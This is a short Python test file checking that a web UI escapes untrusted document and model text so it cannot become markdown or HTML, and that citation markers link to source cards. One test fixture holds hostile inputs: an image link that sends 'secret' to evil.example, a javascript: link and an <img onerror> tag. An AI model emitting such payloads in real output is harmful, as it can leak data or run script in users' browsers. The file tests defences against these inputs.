"""Document and model text cannot become markup; citation markers become links to their source cards."""

import re

from webui.markdown import answer_markdown, escape_markdown, source_anchor


def _unescaped(pattern: str, text: str) -> list[str]:
    return re.findall(r"(?<!\\)" + pattern, text)


def test_injected_links_images_and_html_are_inert() -> None:
    hostile = "See ![pixel](http://evil.example/p.png?d=secret) and [click](javascript:alert(1)) <img src=x onerror=1>"
    escaped = escape_markdown(hostile)
    assert not _unescaped(r"\]\(", escaped) and not _unescaped(r"<", escaped) and not _unescaped(r"!\[", escaped)
    assert escaped.replace("\\", "") == hostile


def test_valid_citations_link_to_source_cards_and_invalid_ones_stay_text() -> None:
    answer = "Revenue was $5.2 billion [1], up from 2021 [2, 3]. See also [9]."
    md = answer_markdown(answer, turn=4, cited={1, 2, 3})
    assert f"[\\[1\\]](#{source_anchor(4, 1)})" in md
    assert f"[\\[2\\]](#{source_anchor(4, 2)}) [\\[3\\]](#{source_anchor(4, 3)})" in md
    assert "\\[9\\]" in md and "#source-4-9" not in md
    assert "\\$5\\.2" in md  # $ would start LaTeX in Streamlit
